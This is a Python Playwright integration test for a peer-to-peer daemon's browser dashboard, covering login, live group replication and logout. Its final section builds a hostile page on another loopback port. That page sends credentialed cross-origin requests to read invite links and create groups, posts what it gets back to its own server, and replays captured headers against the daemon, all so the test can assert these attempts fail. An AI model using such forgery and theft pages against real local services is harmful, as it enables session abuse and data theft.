"""The web dashboard in a real browser: headless Chromium (Debian's ``chromium``) driven by Playwright.

Two daemon processes on loopback. The page logs in the way ``cobox open`` does it (through the
0600 login page the CLI writes and hands the browser), creates a group, and watches a second
daemon join, connect and append, live (server-sent events read by a fetch stream, no reload).
Then a page of another local port, in the same browser, tries to use the session: its server
receives nothing it can replay, its requests and its link get nothing (issue 12.16). A
screenshot is kept in ``test-artifacts/dashboard.png``.
"""

from __future__ import annotations

import asyncio
import json
import re
import shutil
import stat
from pathlib import Path

import aiohttp
import pytest
from aiohttp import web

from tests.integration.browser import browser_argv, fake_browser
from tests.integration.daemons import ROOT, ok

CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update", "--disable-sync"]
ARTIFACTS = ROOT / "test-artifacts"
LIVE = 20_000  # ms: bound on every wait for something that replication makes happen


def chromium() -> str:
    path = shutil.which("chromium") or "/usr/bin/chromium"
    if not Path(path).exists():
        pytest.fail("the browser tests need Debian's chromium: apt-get install chromium "
                    "(.ci/run installs it); no browser is downloaded")
    return path


class Stranger:
    """A server on another 127.0.0.1 port: its page tries the dashboard's API from the browser and
    reports; every request it gets is kept (headers included) for replay against the daemon."""

    def __init__(self, base: str) -> None:
        self.base = base
        self.requests: list[dict[str, str]] = []
        self.reports: list[dict[str, str]] = []
        self.reported = asyncio.Event()
        self.runner: web.AppRunner | None = None
        self.url = ""

    PAGE = """<!doctype html><html><body><a id="steal" href="{base}/v1/groups/h/invite">a link</a>
<a id="home" href="{base}/">the dashboard</a>
<script>
const D = "{base}";
async function attempt(what, url, init) {{
  try {{
    const r = await fetch(url, {{credentials: "include", ...init}});
    return `${{r.type}} ${{r.status}} ${{await r.text()}}`;
  }}
  catch (e) {{ return `error ${{e}}`; }}
}}
(async () => {{
  const out = {{}};
  out.read = await attempt("read", D + "/v1/groups/h/invite", {{}});
  out.status = await attempt("status", D + "/v1/status", {{}});
  out.create = await attempt("create", D + "/v1/groups", {{method: "POST", mode: "no-cors",
    headers: {{"Content-Type": "text/plain"}}, body: JSON.stringify({{name: "evil"}})}});
  out.create_cors = await attempt("create", D + "/v1/groups", {{method: "POST",
    headers: {{"Content-Type": "application/json"}}, body: JSON.stringify({{name: "evil2"}})}});
  await fetch("/report", {{method: "POST", body: JSON.stringify(out)}});
}})();
</script></body></html>"""

    async def start(self) -> str:
        app = web.Application()

        async def page(request: web.Request) -> web.Response:
            self.requests.append(dict(request.headers))
            return web.Response(text=self.PAGE.format(base=self.base), content_type="text/html")

        async def report(request: web.Request) -> web.Response:
            self.requests.append(dict(request.headers))
            self.reports.append(json.loads(await request.text()))
            self.reported.set()
            return web.Response(text="ok")

        app.router.add_get("/", page)
        app.router.add_post("/report", report)
        self.runner = web.AppRunner(app)
        await self.runner.setup()
        site = web.TCPSite(self.runner, "127.0.0.1", 0)
        await site.start()
        self.url = f"http://127.0.0.1:{site._server.sockets[0].getsockname()[1]}/"  # type: ignore[union-attr]
        return self.url

    async def stop(self) -> None:
        if self.runner is not None:
            await self.runner.cleanup()


async def test_dashboard_logs_in_creates_a_group_and_updates_live(daemons, tmp_path, monkeypatch):
    try:
        from playwright.async_api import async_playwright, expect
    except ImportError:
        pytest.fail("the browser tests need the playwright package (pip install -e '.[test]')")
    executable = chromium()
    a, b = await daemons("a"), await daemons("b")
    argv_file = fake_browser(tmp_path, monkeypatch)
    await ok(a.home, "open")
    argv = await browser_argv(argv_file)
    login_page = a.home / "dashboard-login.html"
    assert argv == [login_page.as_uri()]  # all the browser's command line shows: a path
    assert stat.S_IMODE(login_page.stat().st_mode) == 0o600
    link = (await ok(a.home, "open", "--no-browser")).strip()
    base = link.split("/#code=")[0]
    assert link.startswith("http://127.0.0.1:") and "/#code=" in link
    a_status = await a.status()

    async with async_playwright() as pw:
        browser = await pw.chromium.launch(executable_path=executable, args=CHROMIUM_ARGS, timeout=30_000)
        try:
            context = await browser.new_context(viewport={"width": 1280, "height": 1100})
            page = await context.new_page()
            page.set_default_timeout(10_000)
            errors: list[str] = []
            page.on("pageerror", lambda e: errors.append(str(e)))
            failed: list[str] = []  # responses >= 400 but the one the bad URI asks for
            page.on("response", lambda r: failed.append(f"{r.status} {r.url}")
                    if r.status >= 400 and not r.url.endswith("/v1/groups/join") else None)
            outside: list[str] = []
            page.on("request", lambda r: None if r.url.startswith((base, "blob:" + base, login_page.as_uri()))
                    else outside.append(r.url))

            # Log in as `cobox open` did: its page redirects, the code is traded and leaves the address bar.
            await page.goto(argv[0])
            await page.wait_for_url(base + "/")
            await expect(page.locator("#peer-id")).to_have_text(a_status["peer_id"])
            assert await page.evaluate("() => sessionStorage.getItem('cobox-session')")
            assert await page.context.cookies() == []
            await expect(page.locator("#live")).to_have_text("live")
            await expect(page.locator("#discovery")).to_contain_text("LAN off")

            # Create a group: the invite is shown with a QR code and a copy button.
            await page.fill("#create-name", "g")
            await page.click("#create-form button[type=submit]")
            await expect(page.locator("#invite-uri")).to_have_value(re.compile(r"^cobox://join/.+name=g"))
            uri = await page.input_value("#invite-uri")
            await page.wait_for_function(
                "() => { const i = document.querySelector('#invite-qr'); return i.complete && i.naturalWidth > 0 }")
            await expect(page.locator("#copy-invite")).to_be_visible()
            group = page.locator('article.group[data-group="g"]')
            await expect(group.locator(".sync")).to_have_text("No devices connected")

            # A bad URI: an inline error in plain words, nothing else changes.
            await page.fill("#join-uri", "cobox://join/abc")
            await page.click("#join-form button[type=submit]")
            join_error = page.locator("#join-form .error")
            await expect(join_error).to_be_visible()
            await expect(join_error).to_contain_text(re.compile("invite|URI", re.I))
            await page.fill("#seed-uri", "https://example.org")
            await page.click("#seed-form button[type=submit]")
            await expect(page.locator("#seed-form .error")).to_contain_text("cobox://seed/")

            # A second daemon joins through the API and connects: the peer appears live.
            await ok(b.home, "group", "join", uri)
            await ok(b.home, "peers", "add", await a.address())
            b_status = await b.status()
            b_id = b_status["peer_id"]
            b_label = b_status.get("name") or f"device {b_id[:8]}"  # its name where devices have names
            await expect(group.locator(".connected")).to_contain_text(b_label, timeout=LIVE)
            await expect(group.locator(".connected")).to_contain_text("direct LAN", timeout=LIVE)  # the kind
            await expect(page.locator("#peer-count")).to_have_text("1 device connected")
            await expect(page.locator(f'#devices [data-device="{b_id}"] .state')).to_have_text("Connected (direct LAN)")

            # B appends an entry: A replicates it and the counts update without a reload.
            await ok(b.home, "log", "append", "g", "hello from b")
            written = sum(f["length"] for g in (await b.status())["groups"] for f in g["feeds"] if f["own"])
            mine = sum(f["length"] for g in (await a.status())["groups"] for f in g["feeds"] if f["own"])
            total = written + mine  # what A holds once it has B's entries (B's name too, where devices publish one)
            await expect(group.locator(".entries")).to_contain_text(
                f"{total} entry," if total == 1 else f"{total} entries,", timeout=LIVE)
            await expect(group.locator(".members")).to_contain_text(b_label, timeout=LIVE)
            await expect(group.locator(".sync")).to_have_text("Up to Date", timeout=LIVE)
            await expect(page.locator("#events")).to_contain_text(f"{b_label} connected (direct LAN)")
            await expect(page.locator("#legend")).to_have_text(re.compile("Download.*Upload"))
            await expect(page.locator("#plot polyline")).to_have_count(2, timeout=LIVE)  # download, upload
            await expect(page.locator("#plot-axis")).to_contain_text(re.compile(r"top line [0-9.]+ (KiB|MiB)/s"))
            await page.select_option("#plot-metric", "bytes")  # per group
            await expect(page.locator("#legend")).to_have_text("g")
            await expect(page.locator("#plot polyline")).to_have_count(1, timeout=LIVE)
            assert "code=" not in page.url
            ARTIFACTS.mkdir(exist_ok=True)
            await page.screenshot(path=str(ARTIFACTS / "dashboard.png"), full_page=True)

            # Leave: two clicks (the first asks), then the group is gone, live.
            leave = group.locator("button.leave")
            await leave.click()
            await expect(leave).to_have_text("Really leave g?")
            await leave.click()
            await expect(group).to_have_count(0, timeout=LIVE)
            await expect(page.locator("#no-groups")).to_be_visible()

            # A used link, a wrong code, no session: refused, with the way to log in.
            other = await browser.new_context()
            stranger = await other.new_page()
            for url, words in ((argv[0], "not valid"), (base + "/#code=wrong" + "x" * 20, "not valid"),
                               (base + "/", "not logged in")):
                await stranger.goto(url)
                await expect(stranger.locator("#login-message")).to_contain_text(words)
                await expect(stranger.locator("#auth-error")).to_contain_text("cobox open")
                assert "code=" not in stranger.url
            r = await stranger.request.get(base + "/v1/status", headers={"Authorization": "Bearer wrong"})
            assert r.status == 401
            await other.close()

            # Issue 12.16: a page of another local port, in the browser where the dashboard is logged in.
            await ok(a.home, "group", "create", "h")
            attacker = Stranger(base)
            evil_url = await attacker.start()
            try:
                evil = await context.new_page()
                await evil.goto(evil_url)
                async with asyncio.timeout(LIVE / 1000):  # the page reports once its four tries are done
                    await attacker.reported.wait()
                report = attacker.reports[0]
                assert not any("cobox://" in v or "peer_id" in v for v in report.values()), report
                assert report["create"] == "opaque 0 "  # sent blind; the daemon refused it (below)
                # Its link, followed in its tab: nothing.
                async with evil.expect_navigation() as nav:
                    await evil.click("#steal")
                response = await nav.value
                assert response is not None and response.status == 401
                assert "cobox://" not in await evil.content()
                # Its server got no cookie; whatever it got, replayed against the daemon, gets nothing.
                assert not any("Cookie" in h or "cookie" in h for h in attacker.requests), attacker.requests
                async with aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar()) as http:
                    for headers in attacker.requests:
                        keep = {k: v for k, v in headers.items() if k.lower() not in ("host", "content-length")}
                        async with http.get(base + "/v1/groups/h/invite", headers=keep) as r:
                            assert r.status in (401, 403)
                        async with http.post(base + "/v1/groups", headers=keep, json={"name": "evil3"}) as r:
                            assert r.status in (401, 403)
                await evil.close()
            finally:
                await attacker.stop()
            groups = [g["name"] for g in json.loads(await ok(a.home, "group", "list", "--json"))]
            assert groups == ["h"], groups
            # The dashboard itself is still logged in and live, also after a reload (sessionStorage).
            await expect(page.locator('article.group[data-group="h"]')).to_have_count(1, timeout=LIVE)
            secret = await page.evaluate("() => sessionStorage.getItem('cobox-session')")
            await page.reload()
            await expect(page.locator("#live")).to_have_text("live")
            await expect(page.locator('article.group[data-group="h"]')).to_have_count(1, timeout=LIVE)

            # Log out: the secret is forgotten by the page and dead at the daemon.
            await page.click("#logout")
            await expect(page.locator("#auth-error")).to_be_visible()
            await expect(page.locator("#live")).to_have_text("logged out")
            assert await page.evaluate("() => sessionStorage.getItem('cobox-session')") is None
            r = await page.request.get(base + "/v1/status", headers={"X-Cobox-Session": secret})
            assert r.status == 401
            assert not errors, errors
            assert not failed, failed
            assert not outside, f"the page loaded something from elsewhere: {outside}"
        finally:
            await browser.close()
